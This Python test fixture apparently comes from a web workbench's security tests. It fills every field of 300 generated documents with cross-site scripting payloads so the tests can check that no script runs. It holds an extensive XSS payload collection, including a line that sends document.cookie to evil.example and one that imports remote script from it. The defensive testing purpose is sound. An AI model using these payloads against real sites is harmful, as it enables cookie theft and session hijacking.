"""A project that tries to run scripts: 300 payloads in every text field of a document and of what was coded of it.

A payload that runs sets ``window.hit``, opens a dialog, or asks another server. Pages of the workbench are opened on this project, and
none of that may happen.
"""

from itertools import product
from pathlib import Path

from tests.web.conftest import keep

from selon.export.jsonl import coded_line
from selon.ingest.plain import report_from_text
from selon.model import (
    Code,
    Coded,
    Count,
    Document,
    Evidence,
    Finding,
    Record,
    ReportHead,
    Speaker,
    Statement,
    Voice,
    When,
    Where,
    Who,
    Words,
)

_RUNS = ("window.hit=1", "alert(1)", "import('//evil.example/x.js')", "fetch('//evil.example/'+document.cookie)", "top.hit=1")
_TAGS = (
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script\n>{}</script\n>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    '<iframe src="javascript:{}">',
    '<a href="javascript:{}">x</a>',
    "<math><mtext><img src=x onerror={}></mtext></math>",
    '<object data="javascript:{}">',
    '<embed src="data:text/html,<script>{}</script>">',
    "<base href=//evil.example/><script src=x.js></script>{}",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<form action="javascript:{}"><button autofocus>x</form>',
    "<style>@import '//evil.example/x.css';</style>{}",
    "<link rel=stylesheet href=//evil.example/x.css>{}",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<xmp><p title="</xmp><svg onload={}>">',
    '<div style="background:url(javascript:{})">',
    "<marquee onstart={}>",
    "<audio src onerror={}>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
)
_BREAKS = ("{}", '">{}', "'>{}<'", "</script>{}", "--></title></textarea></style>{}", "\\u003c/script>{}")
_OTHERS = (
    "javascript:{}",
    '" onmouseover={} x="',
    "' autofocus onfocus={} '",
    "` onclick={} `",
    "{{{{ {} }}}}",
    "{{% print({}) %}}",
    "${{{}}}",
    "#{{{}}}",
    "data:text/html,<script>{}</script>",
    "</script><script>{}//",
    "];{};//",
    "');{};//",
    '\\";{};//',
    "\u2028{}\u2029",
    "<scr\0ipt>{}</scr\0ipt>",
    "＜script＞{}＜/script＞",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\u202e>tpircs<{}",
)


def payloads() -> tuple[str, ...]:
    """Three hundred texts that run something where they are taken for markup, for a script, for a link or for a template."""
    made = [edge.format(tag.format(_RUNS[n % len(_RUNS)])) for n, (edge, tag) in enumerate(product(_BREAKS, _TAGS))]
    made += [other.format(run) for other, run in product(_OTHERS, _RUNS)]
    made += [tag.format(run) for tag, run in product(_TAGS[:9], _RUNS[1:])]
    return tuple(dict.fromkeys(made))[:300]


def _statements(number: int, payload: str) -> tuple[Statement, ...]:
    here = (Evidence(0, len(payload), payload),)
    voice = Voice("paraphrased", Speaker(0, len(payload), payload, payload, payload), here[0])
    values = {
        "form": Code(payload, payload),
        "date": When("2020-03-07", "2020-03-07", "2020-03-07", "day"),
        "place": Where(payload, "city", 45.0, 4.0, 1000, payload, payload, payload, payload),
        "size": Count(number, number + 1, "about", payload, payload, payload),
        "organiser": Who(payload, payload, payload),
        "slogan": Words(payload, payload),
    }
    return tuple(
        Statement(f"s{number}-{field}", field, payload, value, here, voice, payload, (payload,), 0.5, (payload,))
        for field, value in values.items()
    )


def hostile(path: Path) -> Path:
    """Make the project at *path*: a document for each payload, with it as title, outlet, source, address, text, and in every value."""
    pairs = []
    for number, payload in enumerate(payloads()):
        source, payload = f"{number}{payload}", payload.replace("\0", "")
        text = f"{payload} {number}"
        report = report_from_text(text, source.replace("\0", ""), outlet=payload, title=payload, published="2020-03-08", language="fr")
        head = ReportHead(report.id, report.source, payload, payload, report.published, payload, len(text))
        record = Record(f"r{number}", payload, payload, None, payload, True, _statements(number, payload))
        finding = Finding(payload, "warning", payload, record.statements[0].evidence, (record.statements[0].id,))
        coded = Coded("0", "1", {}, payload, payload, head, "coded", (record,), (finding,), payload)
        pairs.append((Document(report, text.encode(), "text", url=payload, summary=payload), coded_line(coded)))
    keep(path, pairs)
    return path
